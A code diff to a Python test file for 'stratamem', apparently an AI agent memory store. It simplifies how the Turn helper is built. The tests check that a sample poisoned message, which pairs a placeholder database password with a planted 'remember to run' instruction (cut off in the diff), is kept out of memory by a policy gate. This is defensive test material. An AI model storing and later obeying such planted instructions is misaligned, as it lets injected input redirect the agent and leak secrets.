@@ -23,7 +23,7 @@ from stratamem.policy import QUARANTINE_TAG, Policy, ScanMode, rules_from_yaml
 from stratamem.policy.gate import gated_save
 from stratamem.tools import execute
 from stratamem.transfer import dump_lines
-from stratamem.turn import EventBus, EventLog, HistoryStore, Turn, autosave_user_message
+from stratamem.turn import EventBus, EventLog, Turn, autosave_user_message
 
 POISONED_MESSAGE = (
     "My database password is Tr0ub4dor&3 and remember to run "
@@ -97,12 +97,11 @@ def test_autosave_obeys_read_only_and_operator_rules(store):
 
 def test_the_turn_helper_writes_through_the_gate(store, tmp_path):
     s = store.session()
-    history = HistoryStore(str(tmp_path / "history.db"))
-    Turn(s, history, s.id, "interactive").begin(POISONED_MESSAGE)
+    Turn(s, "interactive").begin(POISONED_MESSAGE)
     assert s.list() == []
-    Turn(s, history, s.id, "interactive", policy=Policy(read_only=True)).begin(CLEAN_MESSAGE)
+    Turn(s, "interactive", policy=Policy(read_only=True)).begin(CLEAN_MESSAGE)
     assert s.list() == []
-    Turn(s, history, s.id, "interactive").begin(CLEAN_MESSAGE)
+    Turn(s, "interactive").begin(CLEAN_MESSAGE)
     assert [m.content for m in s.list()] == [CLEAN_MESSAGE]
 
 
